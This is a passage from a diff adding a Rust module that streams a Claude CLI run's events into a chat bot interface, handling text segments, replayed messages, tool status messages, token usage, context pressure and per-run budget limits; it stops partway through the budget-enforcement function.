@@ -0,0 +1,3825 @@
+//! Per-run event processing, separate from session orchestration.
+//!
+//! [`ClaudeSession`](crate::session::ClaudeSession) starts a run and feeds its events into an
+//! [`EventPipeline`], which owns everything the user sees while the run streams. The pipeline has
+//! no knowledge of sessions, persistence or limits beyond what it is constructed with.
+
+use std::{
+    collections::{HashMap, HashSet, VecDeque},
+    sync::{Arc, Mutex},
+};
+
+use tokio::time::{Duration, Instant};
+
+use crate::{
+    ask_user::{
+        find_unanswered_duplicate, is_allowed_request_chat, render_text_options,
+        track_sync_text_request, ANSWER_MODE_TEXT, STATUS_DUPLICATE,
+    },
+    config::{Config, SandboxEnforcement, DEFAULT_SEGMENT_SEPARATOR},
+    domain::{ChatTarget, MessageRef},
+    errors::{CancelReason, Error},
+    formatting::{
+        escape_html, format_token_count, format_tool_group, format_tool_outcome,
+        format_tool_status, tool_status_parts, ToolAction,
+    },
+    i18n::Messages,
+    messaging::{
+        chat_action::CHAT_ACTION_RENEW,
+        metered::MeteredMessenger,
+        port::MessagingPort,
+        types::{ChatAction, OptionsKeyboard},
+    },
+    metrics::{Counter, MetricsSink, NoopMetrics, TurnMetrics},
+    model::{
+        client::ModelClient,
+        types::{MergedResult, ModelEvent, ProviderKind, RunId, SessionRef, TokenUsage},
+    },
+    plan_mode::review_keyboard,
+    security::{
+        check_command_safety, check_sandbox_wrapper, scrub_secrets, tool_capability, Capability,
+        DomainPolicy, PathPolicy, Role, ToolListPolicy,
+    },
+    security_events::{BlockKind, RunUser, SecurityBlock, SecurityMonitor},
+    streaming::{ProgressPolicy, StatusType, StreamingState},
+    theme::StatusTheme,
+    usage::pricing::ModelPricing,
+    Result,
+};
+
+#[derive(Clone, Debug)]
+pub struct TurnOutput {
+    /// The turn's answer: its segments joined with `cfg.turn_segment_separator`.
+    pub text: String,
+    /// The answer split at tool calls, for callers that format segments themselves.
+    pub segments: Vec<String>,
+    pub waiting_for_user: bool,
+    pub usage: Option<TokenUsage>,
+    pub session: Option<SessionRef>,
+    /// The run was cancelled because it crossed `RunLimits::max_budget_usd`.
+    pub budget_exceeded: bool,
+    /// Tool names invoked during the turn, in call order.
+    pub tools: Vec<String>,
+    /// The CLI compacted the conversation during this turn.
+    pub context_compacted: bool,
+    /// The turn showed the session running out of context (the warning is sent at most once).
+    pub context_pressure: Option<ContextPressure>,
+    /// Streaming UI to continue when the `ask_user` answer arrives (set with `waiting_for_user`).
+    pub suspended: Option<SuspendedStream>,
+    /// The provider failed the turn; its result text said why (see [`EventPipeline::finish`]).
+    pub provider_error: Option<String>,
+}
+
+/// Ends [`TurnOutput::text`] when the turn produced more than `cfg.max_turn_output_bytes`.
+pub const TRUNCATION_MARKER: &str = "[… output truncated]";
+
+/// Signs, seen in one turn, that the session is running out of context window.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum ContextPressure {
+    /// The context reached `cfg.context_save_threshold_tokens`: either a single API call's
+    /// prompt (input + cache reads + cache writes) or the session total since the last
+    /// compaction.
+    NearLimit { tokens: u64 },
+    /// The CLI failed the turn because the prompt no longer fits.
+    Exhausted,
+}
+
+/// Streamed messages of a turn suspended by `ask_user`.
+///
+/// The turn that carries the answer takes it over (see [`EventPipeline::with_suspended`]), so
+/// one logical answer keeps a single progress message and its segment ids don't collide with
+/// the messages already sent.
+#[derive(Clone, Debug)]
+pub struct SuspendedStream {
+    stream: StreamingState,
+    next_segment_id: u32,
+}
+
+impl SuspendedStream {
+    pub fn target(&self) -> ChatTarget {
+        self.stream.target
+    }
+}
+
+/// Suspended streams waiting for their `ask_user` answer, one per chat; entries are dropped
+/// once older than the TTL.
+#[derive(Debug)]
+pub struct SuspendedStreams {
+    ttl: Duration,
+    inner: Mutex<HashMap<ChatTarget, (Instant, SuspendedStream)>>,
+}
+
+impl SuspendedStreams {
+    pub fn new(ttl: Duration) -> Self {
+        Self {
+            ttl,
+            inner: Mutex::new(HashMap::new()),
+        }
+    }
+
+    /// Keep `stream` for its chat, replacing an older suspension there.
+    pub fn stash(&self, stream: SuspendedStream) {
+        let mut map = self.inner.lock().unwrap_or_else(|e| e.into_inner());
+        let now = Instant::now();
+        map.retain(|_, (at, _)| now.duration_since(*at) < self.ttl);
+        map.insert(stream.target(), (now, stream));
+    }
+
+    /// Remove and return the stream suspended in `target`, unless it expired.
+    pub fn take(&self, target: ChatTarget) -> Option<SuspendedStream> {
+        let mut map = self.inner.lock().unwrap_or_else(|e| e.into_inner());
+        let (at, stream) = map.remove(&target)?;
+        (at.elapsed() < self.ttl).then_some(stream)
+    }
+
+    /// Drop the stream suspended in `target`: a turn that finished without asking has moved on
+    /// from it.
+    pub fn discard(&self, target: ChatTarget) {
+        self.inner
+            .lock()
+            .unwrap_or_else(|e| e.into_inner())
+            .remove(&target);
+    }
+}
+
+/// Length and FNV-1a hash of streamed text, so snapshots can be compared against it without
+/// keeping a copy.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+struct Digest {
+    len: usize,
+    hash: u64,
+}
+
+impl Default for Digest {
+    fn default() -> Self {
+        Self {
+            len: 0,
+            hash: 0xcbf2_9ce4_8422_2325,
+        }
+    }
+}
+
+impl Digest {
+    fn of(text: &str) -> Self {
+        let mut digest = Self::default();
+        digest.extend(text);
+        digest
+    }
+
+    fn extend(&mut self, text: &str) {
+        for byte in text.bytes() {
+            self.hash = (self.hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3);
+        }
+        self.len += text.len();
+    }
+
+    /// `text` starts with the text this digest was built from.
+    fn is_prefix_of(&self, text: &str) -> bool {
+        text.is_char_boundary(self.len) && Self::of(&text[..self.len]) == *self
+    }
+}
+
+/// Shared prefix, in bytes, above which a diverging snapshot is treated as a revision of the
+/// current segment rather than as unrelated text.
+const SNAPSHOT_SHARED_PREFIX: usize = 32;
+
+/// How a text-only snapshot relates to the current segment ([`TextSegments::push_snapshot`]).
+#[derive(Debug, PartialEq, Eq)]
+pub enum SnapshotDiff<'a> {
+    /// Nothing new: a repeat, or a shorter snapshot re-sent after tool interleaving or a
+    /// reconnect, also of a segment already closed.
+    Unchanged,
+    /// Text appended to the current segment.
+    Extends(&'a str),
+    /// The snapshot diverged from the segment after a long shared prefix: the segment's text past
+    /// that prefix was replaced by this tail, so the shown segment must be redrawn.
+    Revised(&'a str),
+    /// Unrelated to the current segment: `closed` is the segment it ended (as
+    /// [`TextSegments::end_segment`] returns it) and the snapshot starts the next one.
+    NewSegment {
+        closed: Option<(u32, String)>,
+        text: &'a str,
+    },
+}
+
+/// Streamed answer text, split into segments at tool calls.
+///
+/// Text-only assistant events usually carry a cumulative snapshot of the message so far, so only
+/// the part past the previous snapshot is new. Snapshots that don't extend it are compared with
+/// the segments' text: a closed segment re-sent or a prefix of the current one is old news,
+/// one sharing a long prefix with the current segment revises it, and anything else (another
+/// content block) starts a new segment.
+///
+/// Only the closed segments' text and the current segment are kept, together at most `limit`
+/// bytes; text past that is counted but dropped, and [`Self::joined`] ends with a marker.
+#[derive(Debug)]
+pub struct TextSegments {
+    /// Text of the closed segments (empty ones skipped).
+    done: Vec<String>,
+    done_len: usize,
+    separator: String,
+    segment_id: u32,
+    segment_text: String,
+    /// Every byte of text seen, including dropped text.
+    total_len: usize,
+    limit: usize,
+    /// The current segment as streamed (dropped text included) and the last snapshot.
+    segment: Digest,
+    last_snapshot: Digest,
+    /// Each closed segment as streamed, to recognise it when re-sent.
+    closed: Vec<Digest>,
+}
+
+impl Default for TextSegments {
+    fn default() -> Self {
+        Self {
+            done: Vec::new(),
+            done_len: 0,
+            separator: DEFAULT_SEGMENT_SEPARATOR.to_string(),
+            segment_id: 0,
+            segment_text: String::new(),
+            total_len: 0,
+            limit: usize::MAX,
+            segment: Digest::default(),
+            last_snapshot: Digest::default(),
+            closed: Vec::new(),
+        }
+    }
+}
+
+impl TextSegments {
+    /// Empty, with the first segment numbered `segment_id`.
+    pub fn starting_at(segment_id: u32) -> Self {
+        Self {
+            segment_id,
+            ..Self::default()
+        }
+    }
+
+    /// Keep at most `limit` bytes of text (`cfg.max_turn_output_bytes`).
+    pub fn with_limit(mut self, limit: usize) -> Self {
+        self.limit = limit;
+        self
+    }
+
+    /// Put `separator` between segments in [`Self::joined`] (`cfg.turn_segment_separator`).
+    pub fn with_separator(mut self, separator: &str) -> Self {
+        self.separator = separator.to_string();
+        self
+    }
+
+    pub fn segment_id(&self) -> u32 {
+        self.segment_id
+    }
+
+    /// Text of the segment currently streaming (up to the limit).
+    pub fn segment_text(&self) -> &str {
+        &self.segment_text
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.total_len == 0
+    }
+
+    /// Bytes of text kept in memory.
+    pub fn retained_len(&self) -> usize {
+        self.done_len + self.segment_text.len()
+    }
+
+    /// Bytes of text seen this turn, including any dropped past the limit.
+    pub fn total_len(&self) -> usize {
+        self.total_len
+    }
+
+    pub fn is_truncated(&self) -> bool {
+        self.total_len > self.retained_len()
+    }
+
+    /// Kept text of every segment so far, exactly as streamed; whitespace-only segments skipped.
+    pub fn segments(&self) -> Vec<String> {
+        self.done
+            .iter()
+            .map(String::as_str)
+            .chain(std::iter::once(self.segment_text.as_str()))
+            .filter(|s| !s.trim().is_empty())
+            .map(str::to_string)
+            .collect()
+    }
+
+    /// All text of the turn, segments joined with the separator, with a marker if some was
+    /// dropped.
+    pub fn joined(&self) -> String {
+        let mut out = self.segments().join(&self.separator);
+        if self.is_truncated() {
+            out.push_str(&format!(
+                "\n\n{TRUNCATION_MARKER} ({} of {} bytes kept)",
+                self.retained_len(),
+                self.total_len
+            ));
+        }
+        out
+    }
+
+    /// Append a text delta.
+    pub fn push(&mut self, text: &str) {
+        self.total_len += text.len();
+        self.segment.extend(text);
+        self.last_snapshot.extend(text);
+
+        let room = self.limit.saturating_sub(self.retained_len());
+        let mut keep = text.len().min(room);
+        while !text.is_char_boundary(keep) {
+            keep -= 1;
+        }
+        self.segment_text.push_str(&text[..keep]);
+    }
+
+    /// Apply a text-only snapshot to the current segment.
+    ///
+    /// Past the output limit only the kept part of the segment can be compared.
+    pub fn push_snapshot<'a>(&mut self, snapshot: &'a str) -> SnapshotDiff<'a> {
+        let extends = self.last_snapshot.is_prefix_of(snapshot);
+        // Anything extends an empty segment, a closed one re-sent included.
+        if (!extends || self.last_snapshot.len == 0) && self.repeats_closed_segment(snapshot) {
+            return SnapshotDiff::Unchanged;
+        }
+        if extends {
+            let delta = &snapshot[self.last_snapshot.len..];
+            if delta.is_empty() {
+                return SnapshotDiff::Unchanged;
+            }
+            self.push(delta);
+            return SnapshotDiff::Extends(delta);
+        }
+        if self.segment_text.starts_with(snapshot) {
+            return SnapshotDiff::Unchanged;
+        }
+
+        let shared = common_prefix_len(&self.segment_text, snapshot);
+        if shared >= SNAPSHOT_SHARED_PREFIX.min(self.segment_text.len()) {
+            // Drop the stale tail (and anything past the limit) and continue from the prefix.
+            self.total_len -= self.segment.len - shared;
+            self.segment_text.truncate(shared);
+            self.segment = Digest::of(&self.segment_text);
+            self.last_snapshot = self.segment;
+            let tail = &snapshot[shared..];
+            self.push(tail);
+            return SnapshotDiff::Revised(tail);
+        }
+
+        let closed = self.end_segment();
+        self.push(snapshot);
+        SnapshotDiff::NewSegment {
+            closed,
+            text: snapshot,
+        }
+    }
+
+    /// Close the current segment (a tool call started); returns its id and text unless empty.
+    pub fn end_segment(&mut self) -> Option<(u32, String)> {
+        if self.segment.len == 0 {
+            return None;
+        }
+        let id = self.segment_id;
+        self.segment_id += 1;
+        self.closed.push(self.segment);
+        self.segment = Digest::default();
+        self.last_snapshot = Digest::default();
+        let text = std::mem::take(&mut self.segment_text);
+        if !text.is_empty() {
+            self.done_len += text.len();
+            self.done.push(text.clone());
+        }
+        Some((id, text))
+    }
+}
+
+impl TextSegments {
+    /// `snapshot` is a closed segment re-sent in full. Partial matches aren't enough: a new
+    /// block may well start like an earlier one.
+    fn repeats_closed_segment(&self, snapshot: &str) -> bool {
+        !snapshot.is_empty() && self.closed.contains(&Digest::of(snapshot))
+    }
+}
+
+/// Length in bytes of the longest common prefix of `a` and `b`, on a char boundary.
+fn common_prefix_len(a: &str, b: &str) -> usize {
+    a.char_indices()
+        .zip(b.chars())
+        .find(|((_, x), y)| x != y)
+        .map_or(a.len().min(b.len()), |((i, _), _)| i)
+}
+
+/// Ids remembered per kind by [`ReplayGuard`].
+pub const REPLAY_GUARD_CAPACITY: usize = 256;
+
+/// Insertion-ordered set that forgets its oldest ids past [`REPLAY_GUARD_CAPACITY`].
+#[derive(Debug, Default)]
+struct RecentIds {
+    order: VecDeque<String>,
+    ids: HashSet<String>,
+}
+
+impl RecentIds {
+    /// Record `id`; `false` if it was already present.
+    fn insert(&mut self, id: &str) -> bool {
+        if !self.ids.insert(id.to_string()) {
+            return false;
+        }
+        self.order.push_back(id.to_string());
+        if self.order.len() > REPLAY_GUARD_CAPACITY {
+            if let Some(old) = self.order.pop_front() {
+                self.ids.remove(&old);
+            }
+        }
+        true
+    }
+}
+
+/// `tool_use` block ids and assistant message ids already handled in a session.
+///
+/// Resuming after a cancelled run (e.g. `ask_user`) makes the CLI replay its last assistant
+/// message; the guard lets the next run's pipeline skip it instead of repeating tool statuses
+/// and keyboards. Shared across runs by the session and cleared with it.
+#[derive(Debug, Default)]
+pub struct ReplayGuard {
+    tool_uses: RecentIds,
+    messages: RecentIds,
+}
+
+impl ReplayGuard {
+    pub fn clear(&mut self) {
+        *self = Self::default();
+    }
+
+    /// Record a `tool_use` id; `false` if it was handled before.
+    pub fn first_tool_use(&mut self, id: &str) -> bool {
+        self.tool_uses.insert(id)
+    }
+
+    /// Record an assistant message id; `false` if it was handled before.
+    pub fn first_message(&mut self, id: &str) -> bool {
+        self.messages.insert(id)
+    }
+}
+
+/// "typing" is re-sent this often while it should show.
+const TYPING_RENEW: Duration = CHAT_ACTION_RENEW;
+
+/// When the chat shows "typing…": while the model composes (thinking or streaming text), not
+/// while a tool runs, and never again once the turn waits for an `ask_user` answer.
+#[derive(Clone, Debug, Default)]
+struct TypingIndicator {
+    /// Ids of tool calls started and not yet answered by a result.
+    tools_running: HashSet<String>,
+    stopped: bool,
+    last_sent: Option<Instant>,
+}
+
+impl TypingIndicator {
+    fn tool_started(&mut self, id: &str) {
+        self.tools_running.insert(id.to_string());
+    }
+
+    fn tool_finished(&mut self, id: &str) {
+        self.tools_running.remove(id);
+    }
+
+    fn stop(&mut self) {
+        self.stopped = true;
+    }
+
+    /// Whether to send "typing" at `now`; records the send.
+    fn due(&mut self, now: Instant) -> bool {
+        if self.stopped || !self.tools_running.is_empty() {
+            return false;
+        }
+        if self
+            .last_sent
+            .is_some_and(|t| now.duration_since(t) < TYPING_RENEW)
+        {
+            return false;
+        }
+        self.last_sent = Some(now);
+        true
+    }
+}
+
+/// Consecutive calls of one tool action folded into a single status message.
+#[derive(Clone)]
+struct ToolGroup {
+    msg: MessageRef,
+    theme: &'static StatusTheme,
+    action: ToolAction,
+    subjects: Vec<String>,
+    /// Members whose result has not arrived yet.
+    pending: Vec<String>,
+    /// Shown under the status: the first failure, else the latest result.
+    outcome: Option<(bool, String)>,
+    updated: Instant,
+}
+
+impl ToolGroup {
+    fn status(&self) -> String {
+        format_tool_group(self.theme, &self.action, &self.subjects)
+    }
+
+    fn html(&self) -> String {
+        match &self.outcome {
+            Some((_, outcome)) => format!("{}\n{outcome}", self.status()),
+            None => self.status(),
+        }
+    }
+
+    fn record_outcome(&mut self, is_error: bool, outcome: String) {
+        if !self.outcome.as_ref().is_some_and(|(failed, _)| *failed) {
+            self.outcome = Some((is_error, outcome));
+        }
+    }
+}
+
+/// Consumes one run's [`ModelEvent`]s and drives the chat UI: streamed text segments, tool
+/// status messages, thinking blocks, the progress spinner and `ask_user` keyboards.
+///
+/// It also enforces the tool safety checks (blocked Bash commands, file paths outside `paths`,
+/// WebFetch/WebSearch hosts outside `domains`) and the per-run budget, cancelling the run through `model` when one trips.
+pub struct EventPipeline {
+    cfg: Arc<Config>,
+    model: Arc<dyn ModelClient>,
+    /// The run whose events this pipeline consumes (target of early cancellation).
+    run_id: RunId,
+    messenger: Arc<dyn MessagingPort>,
+    stream: StreamingState,
+    /// The chat's catalog (`cfg.bot_locale`), drawn with its status theme.
+    messages: &'static Messages,
+    paths: PathPolicy,
+    domains: DomainPolicy,
+    tool_lists: ToolListPolicy,
+    /// Role of the user whose prompt started the run; gates Bash and file writes.
+    role: Role,
+    /// Who the run is for and where its safety blocks are reported (see `with_requester`).
+    requester: Option<RunUser>,
+    security: Option<Arc<SecurityMonitor>>,
+    metrics: Arc<TurnMetrics>,
+    /// Plan-only turn: ends with "Execute plan" / "Discard" buttons.
+    plan_review: bool,
+
+    text: TextSegments,
+    tools_used: Vec<String>,
+    last_text_emit: Option<Instant>,
+    typing: TypingIndicator,
+
+    observed_session: Option<SessionRef>,
+    last_usage: Option<TokenUsage>,
+    ask_user_triggered: bool,
+    ask_user_buttons_sent: bool,
+    final_result_text: Option<String>,
+    results: MergedResult,
+    // Text of a `<synthetic>` reply reporting a provider failure, held back from the chat.
+    synthetic_error: Option<String>,
+    context_compacted: bool,
+    // Session context tokens before this turn, and whether the near-limit warning was already
+    // sent (see `with_context_state`).
+    context_base_tokens: u64,
+    context_warned: bool,
+    context_pressure: Option<ContextPressure>,
+
+    // tool_use_id -> (status message, status html) so results can be appended in place.
+    tool_status_messages: HashMap<String, (MessageRef, String)>,
+    // Latest tool status while further calls of its action may still be folded into it.
+    tool_group: Option<ToolGroup>,
+    // Client notices already shown this turn.
+    notices_seen: HashSet<String>,
+
+    replay_guard: Arc<Mutex<ReplayGuard>>,
+    // Message ids first seen in this run: partial messages repeat their id, replays don't.
+    run_message_ids: HashSet<String>,
+
+    // Usage of completed assistant messages + the in-flight one (partial messages repeat the
+    // same cumulative usage, so we only keep the latest per message id). Feeds the budget
+    // guardrail and the spinner, priced at `pricing`.
+    max_budget_usd: Option<f64>,
+    pricing: ModelPricing,
+    completed_usage: TokenUsage,
+    current_message_usage: Option<(String, TokenUsage)>,
+    result_cost_usd: Option<f64>,
+    budget_exceeded: bool,
+
+    // Set once the bot starts shutting down; `finish()` then marks the turn as aborted.
+    shutting_down: bool,
+}
+
+impl EventPipeline {
+    /// `model` is only used to cancel `run_id`; the caller runs the model and feeds its events.
+    pub fn new(
+        cfg: Arc<Config>,
+        model: Arc<dyn ModelClient>,
+        run_id: RunId,
+        messenger: Arc<dyn MessagingPort>,
+        paths: PathPolicy,
+        target: ChatTarget,
+    ) -> Self {
+        let metrics = Arc::new(TurnMetrics::new(Arc::new(NoopMetrics)));
+        Self::with_turn_metrics(cfg, model, run_id, messenger, paths, target, metrics)
+    }
+
+    /// Like [`EventPipeline::new`]; messenger calls, throttled edits and time-to-first-token are
+    /// recorded into `metrics`.
+    pub fn with_turn_metrics(
+        cfg: Arc<Config>,
+        model: Arc<dyn ModelClient>,
+        run_id: RunId,
+        messenger: Arc<dyn MessagingPort>,
+        paths: PathPolicy,
+        target: ChatTarget,
+        metrics: Arc<TurnMetrics>,
+    ) -> Self {
+        let cfg_budget = cfg.max_budget_usd;
+        let pricing = cfg.pricing.resolve(cfg.claude_model.as_deref()).pricing;
+        let text = TextSegments::default()
+            .with_limit(cfg.max_turn_output_bytes)
+            .with_separator(&cfg.turn_segment_separator);
+        let domains = DomainPolicy::from_config(&cfg);
+        let tool_lists = ToolListPolicy::from_config(&cfg);
+        let progress = ProgressPolicy::from_config(&cfg);
+        let theme = cfg.status_theme;
+        let messages = cfg.bot_locale.messages().themed(theme);
+
+        Self {
+            cfg,
+            model,
+            run_id,
+            messenger: Arc::new(MeteredMessenger::new(messenger, metrics.clone())),
+            stream: StreamingState::new(target)
+                .with_metrics(metrics.clone())
+                .with_progress_policy(progress)
+                .with_theme(theme)
+                .with_messages(messages),
+            messages,
+            paths,
+            domains,
+            tool_lists,
+            role: Role::default(),
+            requester: None,
+            security: None,
+            metrics,
+            plan_review: false,
+            text,
+            tools_used: Vec::new(),
+            last_text_emit: None,
+            typing: TypingIndicator::default(),
+            observed_session: None,
+            last_usage: None,
+            ask_user_triggered: false,
+            ask_user_buttons_sent: false,
+            final_result_text: None,
+            results: MergedResult::default(),
+            synthetic_error: None,
+            context_compacted: false,
+            context_base_tokens: 0,
+            context_warned: false,
+            context_pressure: None,
+            tool_status_messages: HashMap::new(),
+            tool_group: None,
+            notices_seen: HashSet::new(),
+            replay_guard: Arc::default(),
+            run_message_ids: HashSet::new(),
+            max_budget_usd: cfg_budget,
+            pricing,
+            completed_usage: TokenUsage::default(),
+            current_message_usage: None,
+            result_cost_usd: None,
+            budget_exceeded: false,
+            shutting_down: false,
+        }
+    }
+
+    /// Override `cfg.max_budget_usd` for this run (`None` = unlimited).
+    pub fn with_max_budget_usd(mut self, max_budget_usd: Option<f64>) -> Self {
+        self.max_budget_usd = max_budget_usd;
+        self
+    }
+
+    /// Price the turn's usage at `pricing` (default: `cfg.claude_model`'s rates).
+    pub fn with_pricing(mut self, pricing: ModelPricing) -> Self {
+        self.pricing = pricing;
+        self
+    }
+
+    /// Run on behalf of a user with `role` (default: [`Role::Full`]).
+    pub fn with_role(mut self, role: Role) -> Self {
+        self.role = role;
+        self
+    }
+
+    /// Run on behalf of `requester`: their role gates tools and safety blocks are reported
+    /// against them.
+    pub fn with_requester(mut self, requester: RunUser) -> Self {
+        self.role = requester.role;
+        self.requester = Some(requester);
+        self
+    }
+
+    /// Audit and count safety blocks through `monitor` (and alert the owner if configured).
+    pub fn with_security_monitor(mut self, monitor: Arc<SecurityMonitor>) -> Self {
+        self.security = Some(monitor);
+        self
+    }
+
+    /// End the turn with the plan review buttons (see [`crate::plan_mode`]).
+    pub fn with_plan_review(mut self, plan_review: bool) -> Self {
+        self.plan_review = plan_review;
+        self
+    }
+
+    /// Continue the UI of a turn suspended by `ask_user`: keep editing its progress message and
+    /// number new segments after its own. Ignored if it belongs to another chat.
+    pub fn with_suspended(mut self, suspended: SuspendedStream) -> Self {
+        if suspended.target() == self.stream.target {
+            self.stream = suspended.stream.with_metrics(self.metrics.clone());
+            self.text = TextSegments::starting_at(suspended.next_segment_id)
+                .with_limit(self.cfg.max_turn_output_bytes)
+                .with_separator(&self.cfg.turn_segment_separator);
+        }
+        self
+    }
+
+    /// Share the session's [`ReplayGuard`] so events replayed from earlier runs are skipped.
+    pub fn with_replay_guard(mut self, guard: Arc<Mutex<ReplayGuard>>) -> Self {
+        self.replay_guard = guard;
+        self
+    }
+
+    /// Session context size before this turn, and whether its near-limit warning was already
+    /// sent; the pipeline then warns only once per session.
+    pub fn with_context_state(mut self, base_tokens: u64, warned: bool) -> Self {
+        self.context_base_tokens = base_tokens;
+        self.context_warned = warned;
+        self
+    }
+
+    /// The bot is shutting down: [`EventPipeline::finish`] ends the turn with a shutdown notice.
+    pub fn mark_shutting_down(&mut self) {
+        self.shutting_down = true;
+    }
+
+    pub fn is_shutting_down(&self) -> bool {
+        self.shutting_down
+    }
+
+    /// The run was cancelled on purpose (`ask_user` or budget); stop consuming events.
+    pub fn should_stop_early(&self) -> bool {
+        self.ask_user_triggered || self.budget_exceeded
+    }
+
+    /// Called every second by the run loop: advances the spinner and renews "typing".
+    pub async fn tick_progress(&mut self) -> Result<()> {
+        self.renew_typing(Instant::now()).await;
+        self.stream.tick_progress(self.messenger.as_ref()).await
+    }
+
+    async fn renew_typing(&mut self, now: Instant) {
+        if self.typing.due(now) {
+            // Best-effort: a missing indicator is not worth failing the turn.
+            let _ = self
+                .messenger
+                .send_chat_action(self.stream.target, ChatAction::Typing)
+                .await;
+        }
+    }
+
+    pub async fn handle_event(&mut self, ev: ModelEvent) -> Result<()> {
+        let raw = match &ev {
+            ModelEvent::Notice { text } => return self.handle_notice(text).await,
+            ModelEvent::SystemInit { raw }
+            | ModelEvent::ContextCompacted { raw }
+            | ModelEvent::Assistant { raw }
+            | ModelEvent::Tool { raw }
+            | ModelEvent::ToolResult { raw }
+            | ModelEvent::Result { raw }
+            | ModelEvent::Unknown { raw } => raw,
+        };
+        self.observe_session_id(raw);
+
+        match ev {
+            ModelEvent::Assistant { raw } => {
+                if self.is_replayed_message(&raw) {
+                    return self.recheck_replayed_tools(&raw).await;
+                }
+                if let Some(text) = self.synthetic_error_text(&raw) {
+                    log_line!("[STREAM] Provider error reply: {text}");
+                    self.synthetic_error = Some(text);
+                    return Ok(());
+                }
+                self.metrics.mark_first_token(Instant::now().into_std());
+                self.observe_assistant_usage(&raw);
+                self.handle_assistant_raw(&raw).await?;
+            }
+            ModelEvent::Result { raw } => self.handle_result_raw(&raw),
+            ModelEvent::ToolResult { raw } => return self.handle_tool_result_raw(&raw).await,
+            ModelEvent::ContextCompacted { raw } => return self.handle_compaction(&raw).await,
+            _ => return Ok(()),
+        }
+        self.enforce_budget().await
+    }
+
+    /// The text of the CLI's `<synthetic>` reply when it reports a provider failure; such a
+    /// reply is not an answer and isn't streamed.
+    fn synthetic_error_text(&self, raw: &serde_json::Value) -> Option<String> {
+        let message = raw.get("message")?;
+        if message.get("model").and_then(|m| m.as_str()) != Some("<synthetic>") {
+            return None;
+        }
+        let text = message
+            .get("content")?
+            .as_array()?
+            .iter()
+            .filter_map(|b| b.get("text").and_then(|t| t.as_str()))
+            .collect::<String>();
+        self.cfg
+            .provider_error_patterns
+            .matches(&text)
+            .then_some(text)
+    }
+
+    /// Why the provider failed the turn, if it did: a result flagged `is_error` or matching
+    /// `PROVIDER_ERROR_PATTERNS`. A flagged result after a streamed answer only counts when its
+    /// text is a known failure too, and context exhaustion and budget stops are reported on
+    /// their own.
+    fn provider_error(&self) -> Option<String> {
+        if self.budget_exceeded || self.context_pressure == Some(ContextPressure::Exhausted) {
+            return None;
+        }
+        let text = self
+            .final_result_text
+            .as_deref()
+            .or(self.synthetic_error.as_deref());
+        let flagged = self.results.is_error() == Some(true);
+        let known = text.is_some_and(|t| self.cfg.provider_error_patterns.matches(t));
+        let answered = !self.text.is_empty();
+        if !((flagged || known) && (!answered || (flagged && known))) {
+            return None;
+        }
+        Some(
+            text.map(str::trim)
+                .filter(|t| !t.is_empty())
+                .unwrap_or("the provider reported an error without details")
+                .to_string(),
+        )
+    }
+
+    /// Client notices (failovers, CLI warnings) are shown in italics, each text once per turn.
+    async fn handle_notice(&mut self, text: &str) -> Result<()> {
+        // Raw stderr lines: the same scrubbing as the error path applies.
+        let text = scrub_secrets(text, &self.cfg);
+        let text = self.cfg.status_theme.render(&text).into_owned();
+        if !self.notices_seen.insert(text.clone()) {
+            return Ok(());
+        }
+        self.close_tool_group();
+        self.messenger
+            .send_html(
+                self.stream.target,
+                &format!("<i>{}</i>", escape_html(&text)),
+            )
+            .await?;
+        Ok(())
+    }
+
+    /// The assistant message was handled by an earlier run of this session.
+    fn is_replayed_message(&mut self, raw: &serde_json::Value) -> bool {
+        let Some(id) = raw
+            .get("message")
+            .and_then(|m| m.get("id"))
+            .and_then(|v| v.as_str())
+        else {
+            return false;
+        };
+        if self.run_message_ids.contains(id) {
+            return false;
+        }
+        if !self.replay_guard().first_message(id) {
+            log_line!("[STREAM] Skipping replayed assistant message {id}");
+            return true;
+        }
+        self.run_message_ids.insert(id.to_string());
+        false
+    }
+
+    /// A replayed message was shown by an earlier run; only its tool calls go through the safety
+    /// checks again (their statuses are deduplicated by id).
+    async fn recheck_replayed_tools(&mut self, raw: &serde_json::Value) -> Result<()> {
+        let blocks = raw
+            .get("message")
+            .and_then(|m| m.get("content"))
+            .and_then(|c| c.as_array())
+            .into_iter()
+            .flatten()
+            .filter(|b| b.get("type").and_then(|t| t.as_str()) == Some("tool_use"));
+        for block in blocks {
+            self.handle_tool_use(block).await?;
+        }
+        Ok(())
+    }
+
+    fn replay_guard(&self) -> std::sync::MutexGuard<'_, ReplayGuard> {
+        self.replay_guard.lock().unwrap_or_else(|e| e.into_inner())
+    }
+
+    fn observe_assistant_usage(&mut self, raw: &serde_json::Value) {
+        let Some(message) = raw.get("message") else {
+            return;
+        };
+        let Some(usage) = message.get("usage").and_then(parse_usage) else {
+            return;
+        };
+        let id = message
+            .get("id")
+            .and_then(|v| v.as_str())
+            .unwrap_or("")
+            .to_string();
+        match self.current_message_usage.take() {
+            Some((prev_id, prev)) if prev_id == id => {
+                self.current_message_usage = Some((id, prev.max(&usage)));
+            }
+            Some((_, prev)) => {
+                self.completed_usage.add(&prev);
+                self.current_message_usage = Some((id, usage));
+            }
+            None => self.current_message_usage = Some((id, usage)),
+        }
+        let streamed = self.streamed_usage();
+        let cost = self.pricing.cost(&streamed).total();
+        self.stream.update_usage(&streamed, cost);
+        if let Some((_, current)) = &self.current_message_usage {
+            let prompt_tokens = current.input_tokens
+                + current.cache_read_input_tokens
+                + current.cache_creation_input_tokens;
+            self.note_context_size(prompt_tokens);
+        }
+    }
+
+    fn note_context_size(&mut self, tokens: u64) {
+        if tokens < self.cfg.context_save_threshold_tokens {
+            return;
+        }
+        match self.context_pressure {
+            Some(ContextPressure::Exhausted) => {}
+            Some(ContextPressure::NearLimit { tokens: seen }) if seen >= tokens => {}
+            _ => self.context_pressure = Some(ContextPressure::NearLimit { tokens }),
+        }
+    }
+
+    fn streamed_usage(&self) -> TokenUsage {
+        let mut total = self.completed_usage.clone();
+        if let Some((_, current)) = &self.current_message_usage {
+            total.add(current);
+        }
+        total
+    }
+
+    fn spent_usd(&self) -> f64 {
+        let streamed = self.pricing.cost(&self.streamed_usage()).total();
+        streamed.max(self.result_cost_usd.unwrap_or(0.0))
+    }
+
+    async fn enforce_budget(&mut self) -> Result<()> {
+        let Some(limit) = self.max_budget_usd else {
+            return Ok(());
+        };
+        let spent = self.spent_usd();
+        if self.budget_exceeded || spent <= limit {
+            return Ok(());
+        }
+        self.budget_exceeded = true;
+
